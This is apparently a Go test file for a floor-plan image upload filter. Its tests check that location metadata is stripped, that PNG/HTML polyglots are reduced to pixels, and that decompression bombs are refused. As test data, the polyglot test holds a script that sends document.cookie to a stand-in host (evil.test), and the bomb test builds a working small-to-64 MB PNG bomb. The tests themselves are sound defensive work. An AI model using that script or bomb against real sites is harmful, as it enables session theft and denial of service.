package floorplan

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"image"
	"image/jpeg"
	"image/png"
	"testing"
)

// TestAcceptPNGDropsMetadata: a PNG comes out as its pixels only: no text
// chunk, no EXIF with a GPS position, nothing after its end.
func TestAcceptPNGDropsMetadata(t *testing.T) {
	t.Parallel()
	clean := pngOf(t, 40, 30)
	in := withChunks(clean, []byte("trailing bytes"),
		chunk("tEXt", []byte("Author\x00Jane Doe, facilities")),
		chunk("eXIf", []byte("MM\x00\x2aGPSLatitude 52.3702 GPSLongitude 4.8952")))
	p := mustAccept(t, in)
	if p.Type != PNG || p.From != PNG || p.Width != 40 || p.Height != 30 || p.ContentType() != "image/png" {
		t.Errorf("got %s from %s, %d × %d; want a PNG of 40 × 30", p.Type, p.From, p.Width, p.Height)
	}
	for _, gone := range []string{"tEXt", "eXIf", "Jane Doe", "GPS", "trailing"} {
		if bytes.Contains(p.Data, []byte(gone)) {
			t.Errorf("the plan still holds %q", gone)
		}
	}
	samePixels(t, clean, p.Data)
}

// TestAcceptJPEGDropsEXIF: a photographed plan stays a JPEG, without the
// EXIF segment that holds where it was taken.
func TestAcceptJPEGDropsEXIF(t *testing.T) {
	t.Parallel()
	img, err := png.Decode(bytes.NewReader(pngOf(t, 64, 48)))
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := jpeg.Encode(&b, img, nil); err != nil {
		t.Fatal(err)
	}
	exif := append([]byte("Exif\x00\x00MM\x00\x2a"), []byte("GPSLatitude 52.3702 N GPSLongitude 4.8952 E Camera: Phone 12")...)
	app1 := []byte{0xff, 0xe1, 0, 0}
	binary.BigEndian.PutUint16(app1[2:], uint16(len(exif)+2))
	in := append(append(append([]byte{}, b.Bytes()[:2]...), append(app1, exif...)...), b.Bytes()[2:]...)
	if _, err := jpeg.Decode(bytes.NewReader(in)); err != nil {
		t.Fatalf("the test's JPEG does not decode: %v", err)
	}
	p := mustAccept(t, in)
	if p.Type != JPEG || p.Width != 64 || p.Height != 48 || p.ContentType() != "image/jpeg" {
		t.Errorf("got %s, %d × %d; want a JPEG of 64 × 48", p.Type, p.Width, p.Height)
	}
	for _, gone := range []string{"Exif", "GPS", "Camera"} {
		if bytes.Contains(p.Data, []byte(gone)) {
			t.Errorf("the plan still holds %q", gone)
		}
	}
}

// TestAcceptPolyglotPNG: a file that is a PNG and an HTML page at once
// comes out as a PNG only.
func TestAcceptPolyglotPNG(t *testing.T) {
	t.Parallel()
	html := []byte("<html><body><script>fetch('https://evil.test/?c='+document.cookie)</script></body></html>")
	in := withChunks(pngOf(t, 8, 8), html, chunk("tEXt", append([]byte("Comment\x00"), html...)), chunk("htMl", html))
	p := mustAccept(t, in)
	for _, gone := range []string{"<html", "<script", "evil.test", "htMl"} {
		if bytes.Contains(p.Data, []byte(gone)) {
			t.Errorf("the plan still holds %q", gone)
		}
	}
	samePixels(t, pngOf(t, 8, 8), p.Data)
}

// TestAcceptRefusesDecompressionBombs: a small PNG that claims a huge
// image is refused from its header, before a byte of it is decoded: one
// past 8,000 px a side, and one within the sides whose pixels are past
// the limit (a real one: 8 KB that would decode into 64 MB).
func TestAcceptRefusesDecompressionBombs(t *testing.T) {
	t.Parallel()
	// Its image data is not even there: decoding it would fail as
	// unreadable, so a refusal as too big was made before decoding.
	_, err := accept(t, pngHeader(100_000, 100_000, []byte("not image data")))
	refusedAs(t, err, TooBig, "100,000 × 100,000 px", "at most 8,000 px a side")

	var idat bytes.Buffer
	z, _ := zlib.NewWriterLevel(&idat, zlib.BestCompression)
	row := make([]byte, 1+8000/8)
	for range 8000 {
		z.Write(row) //nolint:errcheck // a bytes.Buffer does not fail
	}
	z.Close()
	bomb := pngHeader(8000, 8000, idat.Bytes())
	if len(bomb) > 64<<10 {
		t.Fatalf("the bomb is %d bytes, not small", len(bomb))
	}
	_, err = accept(t, bomb)
	refusedAs(t, err, TooBig, "64,000,000 pixels", "at most 40,000,000")

	_, err = accept(t, pngHeader(100, 100, []byte("not image data")))
	refusedAs(t, err, Unreadable, "This PNG could not be read")
}

// samePixels checks that two PNGs show the same pixels.
func samePixels(t *testing.T, want, got []byte) {
	t.Helper()
	a, err := png.Decode(bytes.NewReader(want))
	if err != nil {
		t.Fatal(err)
	}
	b, err := png.Decode(bytes.NewReader(got))
	if err != nil {
		t.Fatalf("the plan is not a PNG: %v", err)
	}
	if a.Bounds() != b.Bounds() {
		t.Fatalf("the plan is %v, want %v", b.Bounds(), a.Bounds())
	}
	for y := a.Bounds().Min.Y; y < a.Bounds().Max.Y; y++ {
		for x := a.Bounds().Min.X; x < a.Bounds().Max.X; x++ {
			if !sameColor(a, b, x, y) {
				t.Fatalf("the pixel at %d,%d changed", x, y)
			}
		}
	}
}

func sameColor(a, b image.Image, x, y int) bool {
	r1, g1, b1, a1 := a.At(x, y).RGBA()
	r2, g2, b2, a2 := b.At(x, y).RGBA()
	return r1 == r2 && g1 == g2 && b1 == b2 && a1 == a2
}
